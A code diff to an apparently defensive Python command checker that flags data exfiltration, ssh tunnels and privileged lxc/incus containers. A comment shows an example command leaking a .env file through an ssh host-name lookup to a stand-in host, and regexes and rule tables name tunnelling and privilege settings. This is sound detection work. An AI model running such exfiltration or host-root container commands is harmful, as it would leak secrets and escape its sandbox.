@@ -70,7 +70,9 @@ def _runtime_payload(cmd: Cmd, w: Walker) -> bool:
         # A credential handed to the API it belongs to: an authorization header.
         auth = previous in ("-H", "--header") and bool(_AUTH_HEADER.match(arg.text))
         skip = saved or auth
-        if arg.substs and not skip and (not arg.text.startswith("-") or "=" in arg.text):
+        # A variable the line filled at run time (V=$(cat f), read V) carries the same data.
+        data = bool(arg.substs) or arg.computed
+        if data and not skip and (not arg.text.startswith("-") or "=" in arg.text):
             w.flag("exfiltration", f"{cmd.name} sends a value computed at run time")
             return True
         previous = arg.text
@@ -179,6 +181,8 @@ def _ssh(cmd: Cmd, w: Walker) -> None:
     values = cmd.values()
     if set(values) <= {"-V", "-h"}:
         return
+    if _runtime_payload(cmd, w):
+        return  # ssh "$(cat .env).x.example": the host name carries the data in its lookup
     if (cmd.name == "ssh" and set(values) & {"-R", "-D"}) or any(
         v.startswith(("-R", "-D")) for v in values
     ):
@@ -328,6 +332,28 @@ def _containers(cmd: Cmd, w: Walker) -> None:
         _egress(cmd, w)
 
 
+# System-container managers: settings that give a container the host's root or its disks.
+_HOST_ROOT_SETTING = re.compile(
+    r"security\.privileged[= ]+(true|1|yes)\b|raw\.(lxc|idmap|apparmor|seccomp)\b"
+    r"|security\.syscalls\.intercept\.(mount|mknod|setxattr)",
+    re.I,
+)
+
+
+def _system_containers(cmd: Cmd, w: Walker) -> None:
+    """``lxc``/``incus``: a privileged container, raw settings, or a host folder beyond the
+    workspace handed to it as a disk (``disk source=/``)."""
+    sources = [v.split("=", 1)[1] for v in cmd.values() if v.startswith("source=")]
+    beyond = [s for s in sources if w.place(s).kind not in ("workspace", "workspace_root", "temp")]
+    if _HOST_ROOT_SETTING.search(" ".join(cmd.values())) or beyond:
+        # privilege: root in such a container is root on the host (or holds its files)
+        w.flag("privilege", f"{cmd.name} gives a container the host's root or its files")
+        return
+    verbs = [v for v in cmd.values() if not v.startswith("-")]
+    if verbs and verbs[0] in ("launch", "init", "image", "remote"):
+        _egress(cmd, w)
+
+
 def _network(cmd: Cmd, w: Walker) -> None:
     if _runtime_payload(cmd, w):
         return
@@ -411,6 +437,9 @@ NET_RULES |= {name: _packages for name in _PKG | _SYSPKG}
 NET_RULES |= {name: _network for name in _NETWORK - {"ssh", "sftp"}}
 NET_RULES |= {name: _tunnel for name in _TUNNELS | {"code"}}
 NET_RULES |= {"docker": _containers, "podman": _containers, "nerdctl": _containers}
+NET_RULES |= {"lxc": _system_containers, "incus": _system_containers}
+# ssh's relatives take its forwarding options (-R, -D, -L) with the same meaning.
+NET_RULES |= {"plink": _ssh, "plink.exe": _ssh, "autossh": _ssh, "dbclient": _ssh}
 NET_RULES |= {n: _mail for n in ("mail", "mailx", "mutt", "sendmail", "ssmtp", "msmtp", "swaks")}
 NET_RULES |= {n: _file_transfer for n in ("smbclient", "ftp", "lftp", "tftp", "sftp")}
 NET_RULES |= {"cancel": _print_remote, "lp": _print_remote, "lpr": _print_remote}
